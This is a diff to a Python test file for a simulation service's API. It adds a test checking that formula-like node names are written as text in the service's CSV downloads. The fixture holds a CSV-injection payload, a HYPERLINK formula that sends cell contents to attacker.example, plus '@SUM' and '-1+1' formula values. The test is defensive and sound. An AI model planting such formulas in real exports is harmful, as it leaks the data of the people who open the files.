@@ -6,6 +6,8 @@ refused with the field at fault and nothing queued or stored.
 (Who may call what is in test_roles.py; the engine's results themselves in the
 unit tests and test_sim_*.py.)"""
 
+import csv
+import io
 import json
 import time
 import xml.etree.ElementTree as ET
@@ -227,6 +229,31 @@ def test_one_detailed_run_keeps_the_propagation_chain(an, japan):
     assert done["state"] == "done", done
     names = [f["name"] for f in done["files"]]
     assert any(n.startswith("chain") for n in names), names
+
+
+def test_names_that_a_spreadsheet_would_run_are_written_as_text(an):
+    """A model's names reach the CSV files that NISC downloads and opens in a
+    spreadsheet: one that would be taken for a formula (planted by whoever
+    uploaded the model) is written with an apostrophe in front, as text."""
+    evil = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"詳細\")"
+    model = {"name": "formula", "nodes": [
+        {"id": "-1+1", "name": "@SUM(A1:A9)", "sector": "electricity", "layer": "power/13",
+         "source": True, "repair_hours": 2},
+        {"id": "hosp", "name": evil, "sector": "medical", "region": "13"}],
+        "dependencies": [{"supplier": "-1+1", "dependent": "hosp", "kind": "power"}]}
+    r = upload(an, model, name="formula", token="ceptoar")
+    assert r.status_code == 201, describe(r)
+    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": r.json()["id"], "options": {
+        "scenario": {"name": "x", "horizon_hours": 10, "events": [
+            {"node": "-1+1", "start_hours": 1, "duration_hours": 2}]}}}, token="ceptoar", status=202)
+    done = wait_job(an, job["id"], token="ceptoar")
+    assert done["state"] == "done", done
+    text = an.get("/api/v1/analysis/jobs/%s/files/nodes.csv" % job["id"], token="nisc").text
+    rows = list(csv.reader(io.StringIO(text)))
+    by_id = {row[0]: row for row in rows[1:]}
+    assert set(by_id) == {"'-1+1", "hosp"}, rows
+    assert by_id["hosp"][1] == "'" + evil and by_id["'-1+1"][1] == "'@SUM(A1:A9)", rows
+    assert not any(cell[:1] in "=+-@" for row in rows for cell in row[:5] if cell), rows
 
 
 def test_sweep_and_rank_jobs(an, japan):
